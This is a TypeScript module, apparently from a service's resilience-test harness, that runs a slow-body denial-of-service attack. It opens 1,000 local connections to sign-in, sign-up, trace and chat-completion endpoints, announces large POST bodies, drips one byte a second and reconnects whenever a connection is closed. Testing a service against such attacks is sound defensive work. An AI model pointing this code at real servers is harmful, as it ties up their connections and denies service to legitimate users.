import { connect, type Socket } from "node:net";
import { addresses, type StartAttack } from "./attack.ts";

const connections = 1000;
const paths = ["/api/v1/sign-in", "/api/v1/sign-up", "/v1/traces", "/v1/chat/completions"];
const filling = Buffer.alloc(2 ** 20, "a");
const drop = Buffer.from("a");

/**
 * 1,000 connections that announce a body of 15 MB or 16 KB, send up to a megabyte of it, then a byte a second. A
 * connection that the service closes is opened again after two seconds.
 */
export const slowBodies: StartAttack = ({ httpPort }, count) => {
  const open = new Set<Socket>();
  const timers = new Set<NodeJS.Timeout>();
  let isOver = false;
  for (let connection = 0; connection < connections; connection++) beginLater(connection, 0);
  const drip = setInterval(() => {
    for (const socket of open) socket.write(drop);
  }, 1000);
  return () => {
    isOver = true;
    clearInterval(drip);
    for (const timer of timers) clearTimeout(timer);
    for (const socket of open) socket.destroy();
  };

  /** Spreads the connections over two seconds: a thousand in one turn of the event loop would be measured as one long turn. */
  function beginLater(connection: number, afterMs: number): void {
    const timer = setTimeout(
      () => {
        timers.delete(timer);
        begin(connection);
      },
      afterMs + connection * 2,
    );
    timers.add(timer);
  }

  function begin(connection: number): void {
    const path = paths[connection % paths.length] ?? "";
    const announced = connection % 8 < 4 ? 15 * 2 ** 20 : 16_384;
    const head = `POST ${path} HTTP/1.1\r\nhost: gaffe.example\r\ncontent-type: application/json\r\ncontent-length: ${announced}\r\n\r\n["`;
    const socket = connect({ port: httpPort, host: "127.0.0.1", localAddress: addresses.bodies });
    open.add(socket);
    socket.on("error", () => undefined);
    socket.on("data", (chunk: Buffer) => count(chunk.toString("latin1", 9, 12)));
    socket.once("close", () => {
      open.delete(socket);
      if (!isOver) beginLater(connection, 2000);
    });
    socket.write(head);
    socket.write(filling.subarray(0, Math.min(announced - 4000, filling.length)));
  }
};
